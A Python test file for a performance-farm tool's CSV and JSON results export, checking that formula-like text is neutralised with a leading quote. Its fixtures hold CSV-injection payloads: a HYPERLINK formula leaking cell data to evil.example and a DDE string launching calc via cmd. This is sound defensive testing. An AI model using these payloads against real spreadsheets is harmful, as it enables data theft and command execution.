"""`perffarm results export` as CSV: text a spreadsheet would run as a formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest

from master import ingest
from master.cli import csv_text, main
from master.settings import load_settings
from tests.harness import make_repo
from tests.legacy_rows import validator_before_26
from tests.unit.test_gitmirror import hostile_commit
from tests.unit.test_store_ingest import put, result_for, run_ctx

SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def farm(tmp_path, monkeypatch):
    """A repository and the settings of a farm whose results DB is in tmp_path, as the environment names them."""
    repo = make_repo(tmp_path / "repo")
    for k in [k for k in os.environ if k.startswith("PERFFARM_")]:
        monkeypatch.delenv(k)
    monkeypatch.setenv("PERFFARM_MASTER_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PERFFARM_REPOSITORY_URL", str(repo.path))
    settings = load_settings()
    settings.incoming_dir.mkdir(parents=True)
    return repo, settings


def test_formula_text_gets_a_quote_and_negative_samples_stay_numbers(farm, capsys):
    repo, settings = farm
    sha = hostile_commit(repo, SUBJECT, author="@SUM(1+1)*cmd|' /C calc'!A0")
    doc = result_for(sha, samples=(-1.5, 2, 1e-7))
    doc["workloads"][0]["metrics"][0]["unit"] = "+1 ops"
    doc["recipe"]["config_hash"] = "-2+3"
    with validator_before_26():  # a negative throughput is refused now; an old database may hold one
        ingest.ingest_file(settings, put(settings, doc), run_ctx(1, sha), "fixture")
    assert main(["results", "export"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["value"] for r in rows] == ["-1.5", "2", "1e-07"] and [r["sample"] for r in rows] == ["0", "1", "2"]
    r = rows[0]
    assert r["subject"] == "'" + SUBJECT and r["author"].startswith("'@SUM(1+1)")
    assert r["unit"] == "'+1 ops" and r["config_hash"] == "'-2+3"
    assert r["commit"] == sha and r["workload"] == "loop" and r["run_id"] == "1"
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-1.5", cell


def test_csv_text_rules():
    for bad in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_text(bad) == "'" + bad
    for ok in ("x=1", " =1", "", "1.5", "'=1"):
        assert csv_text(ok) == ok
    for number in (-1.5, -3, 0, 2.0):
        assert csv_text(number) == number


RUN_FIELDS = [
    "id", "sha", "ref", "builder", "worker", "machine_id", "recipe", "recipe_version", "config_hash", "status",
    "source", "build_id", "build_url", "noisy", "started_at", "finished_at", "ingested_at", "subject", "author",
]  # fmt: skip


def test_the_json_listing_and_export_show_each_run_with_these_fields(farm, capsys):
    """The JSON forms are read by scripts: a run's fields (its log is not among them; noisy is 0 or 1)."""
    repo, settings = farm
    ingest.ingest_file(settings, put(settings, result_for(repo.head())), run_ctx(1, repo.head()), "fixture")
    capsys.readouterr()
    assert main(["results", "list", "--format", "json"]) == 0
    (listed,) = json.loads(capsys.readouterr().out)
    assert main(["results", "export", "--format", "json"]) == 0
    (exported,) = json.loads(capsys.readouterr().out)
    assert sorted(listed) == sorted(RUN_FIELDS) and sorted(exported) == sorted([*RUN_FIELDS, "measurements"])
    assert listed["noisy"] == 0 and listed["noisy"] is not False and listed["sha"] == repo.head()
